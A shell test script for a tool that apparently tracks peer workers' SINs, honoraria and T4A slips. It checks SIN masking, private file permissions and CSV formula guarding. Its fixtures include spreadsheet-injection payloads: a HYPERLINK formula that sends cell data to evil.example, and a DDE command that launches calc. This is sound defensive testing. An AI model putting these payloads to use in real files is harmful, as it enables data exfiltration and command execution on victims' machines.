#!/bin/sh
# Privacy: a full run with known SINs, every output of every command
# kept and searched.  A SIN appears in full only where it must: with
# --reveal-sin and in the CRA XML.  Never in a table, JSON, CSV, receipt,
# message or the audit trail.  The store, its directory and its -wal and
# -shm files are private under any umask, and CSV cells a spreadsheet
# would run as formulas are guarded in every tool's CSV.
. "$(dirname "$0")/lib.sh"

umask 000
cp "$top/share/peerkit/examples/demo-config.yaml" "$tmp/config.yaml"
export PEERKIT_CONFIG="$tmp/config.yaml"
export PEERKIT_DB="$tmp/private/store/peerkit.db"
mkdir -p "$tmp/o"
n=0
# keep CMD...: run it, keep its stdout and stderr for the search at the end.
keep() {
	n=$((n + 1))
	"$@" >"$tmp/o/$n.out" 2>"$tmp/o/$n.err"
	echo "$*" >"$tmp/o/$n.cmd"
}
# Three SINs: on the command line, on stdin, in a batch.
sin_a=130692544 sin_b=527194831 sin_c=719236457

keep peer-add --alias Kestrel --surname Smith --given-name Alex \
    --address-line1 "12 Lake Rd" --city Kelowna --province BC \
    --postal-code "V1Y 1A1" --sin "130 692 544" --role peer-coordinator
check "peer-add with a SIN" test ! -s "$tmp/o/$n.err"
check "the store's directory is 0700 under umask 000" test \
    "$(stat -c %a "$tmp/private/store")" = 700
check "the store is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB")" = 600
printf '%s\n' "$sin_b" | keep peer-add --alias Wren --sin - --json
printf '{"alias": "Sage", "sin": "%s", "surname": "Lee"}\n{"alias": "Moss", "sin": "%s"}\n' \
    "$sin_c" "$sin_c" >"$tmp/batch.jsonl"
keep peer-add --format csv "$tmp/batch.jsonl"
keep peer-add --dry-run --format json "$tmp/batch.jsonl"
printf '{"alias": "Bad", "sin": "130692545"}\n' >>"$tmp/batch.jsonl"
keep peer-add --keep-going --json "$tmp/batch.jsonl"
keep peer-add --update Kestrel --sin "130-692-544"
keep peer-add --update Kestrel --sin 130692545
mistyped=$n
keep peer-add --update Kestrel --sin "***-***-999"
keep peer-add --update Sage --sin "$sin_c" --notes "SIN checked" --json
keep peer-add --update Wren --sin 000000000
keep peer-add --update Wren --sin "$sin_b"
keep peer-add --deactivate Moss
keep peer-add --reactivate Moss
for f in table json jsonl csv; do
	keep peer-list --format $f
	keep peer-list --format $f Kestrel
done
keep peer-list --search Smith --json
# Work and pay, so there is a T4A to file.
keep engage-log --peer Kestrel --hours 8 --activity consultation --level collaborate \
    --date 2026-03-02 --json
keep engage-log --peer Kestrel --hours 7 --activity consultation --level empower \
    --date 2026-04-06 --format csv
keep honorarium-pay --run --period 2026 --json
keep honorarium-pay --peer Sage --amount 40.00 --date 2026-05-01 --format csv
keep honorarium-pay --peer Wren --amount 25.00 --kind reimbursement --category transit
keep honorarium-pay --receipt 1
keep honorarium-pay --receipt 1 --format html
keep honorarium-pay --list --format csv
keep honorarium-pay --totals --year 2026 --json
keep engage-log --list --period 2026 --format json
keep engage-log --summary --period 2026 --by peer --format csv
for f in table json csv; do
	keep t4a-report --year 2026 --all --format $f
done
keep t4a-report --year 2026 --check
keep t4a-report --year 2026 --slips
keep t4a-report --year 2026 --slips --json
keep onboard-check --done orientation Kestrel
keep onboard-check Kestrel --json
keep onboard-check --all --format csv
keep peer-add --alias Kestrel --sin "$sin_a"
# The exceptions, kept apart: they must hold the SINs.
peer-list --reveal-sin --json >"$tmp/reveal.out" 2>&1
t4a-report --year 2026 --format xml >"$tmp/t4a.xml" 2>"$tmp/t4a.err"
sqlite3 "$PEERKIT_DB" "SELECT * FROM audit" >"$tmp/audit.txt"

check "$n commands run" test "$n" -ge 40
check "--reveal-sin shows the SINs (the search below can see them)" \
    grep -q "$sin_a" "$tmp/reveal.out"
check "the T4A XML carries the SIN the CRA needs" grep -q "<sin>$sin_a</sin>" "$tmp/t4a.xml"
check "the store holds the SINs" test \
    "$(sqlite3 "$PEERKIT_DB" "SELECT count(*) FROM peers WHERE sin IN ('$sin_a', '$sin_b', '$sin_c')")" = 7
for s in $sin_a $sin_b $sin_c; do
	# The digits whole, spaced or dashed, or the six that the mask hides.
	d=$(echo $s | cut -c1-3) e=$(echo $s | cut -c4-6) f=$(echo $s | cut -c7-9)
	re="$s|$d[ -]?$e[ -]?$f|$d$e"
	run sh -c "grep -El '$re' '$tmp'/o/*.out '$tmp'/o/*.err '$tmp/audit.txt' || true"
	is_out /dev/null "SIN ...$f appears in no output, message or audit record"
done
check "the masked SIN is shown instead" grep -q '\*\*\*-\*\*\*-544' "$tmp/o/1.out"
check "the audit trail records the change of SIN, masked" grep -q '\*\*\*-\*\*\*-831' "$tmp/audit.txt"
check "a mistyped SIN is refused" grep -q "check digit is wrong" "$tmp/o/$mistyped.err"

# -wal and -shm, while a writer has the store open: peer-add reading a
# batch from a fifo sits inside its transaction until the fifo closes.
mkfifo "$tmp/fifo"
peer-add -q - <"$tmp/fifo" >/dev/null 2>"$tmp/fifo.err" &
writer=$!
exec 3>"$tmp/fifo"
echo '{"alias": "Holder", "sin": "271846396"}' >&3
i=0
while [ ! -e "$PEERKIT_DB-wal" ] && [ "$i" -lt 200 ]; do
	i=$((i + 1))
	sleep 0.05
done
check "the -wal file is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB-wal")" = 600
check "the -shm file is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB-shm")" = 600
exec 3>&-
wait "$writer"
check "the writer then commits" test $? = 0
run sh -c 'ls -l "$1" | grep -v "^total" | grep -v "^-rw------- "' sh "$tmp/private/store"
is_out /dev/null "nothing in the store's directory is readable by others"

# CSV: cells a spreadsheet would run as formulas are text, in every tool.
cat >"$tmp/formulas.jsonl" <<'EOF'
{"alias": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "surname": "=1+1"}
{"alias": "+SUM(1+1)", "city": "+1+1"}
{"alias": "-2+3+cmd|' /C calc'!A0"}
{"alias": "@SUM(1+1)"}
EOF
peer-add -q "$tmp/formulas.jsonl" >/dev/null
for a in "=HYPERLINK" "+SUM" "-2+3" "@SUM"; do
	engage-log -q --peer "$(peer-list --json | jq -r --arg a "$a" \
	    'select(.alias | startswith($a)) | .id')" --hours 1 --activity meeting \
	    --level consult --date 2026-11-20 >/dev/null
done
honorarium-pay -q --run --period 2026-11 >/dev/null
# A cell that starts a formula: = + @ anywhere, - unless a plain number.
formula='(^|,)"?([=+@]|-[^0-9]|-[0-9.]*[^0-9.,"])'
for cmd in "peer-list --format csv" "peer-add --dry-run --format csv $tmp/formulas.jsonl" \
    "engage-log --list --format csv" "engage-log --summary --period 2026 --by peer --format csv" \
    "honorarium-pay --list --format csv" "honorarium-pay --totals --year 2026 --format csv" \
    "t4a-report --year 2026 --all --format csv" "onboard-check --all --format csv"; do
	run $cmd
	# onboard-check --all answers "no" (1) while items are due.
	[ "$rc" = 0 ] || { [ "$rc" = 1 ] && [ "${cmd%% *}" = onboard-check ]; }
	t_result $? "$cmd (exit $rc)"
	check "$cmd: the formula aliases are there" grep -q "'=HYPERLINK" "$tmp/out"
	run sh -c "grep -E '$formula' '$tmp/out' || true"
	is_out /dev/null "$cmd: no cell starts a formula"
done
done_testing
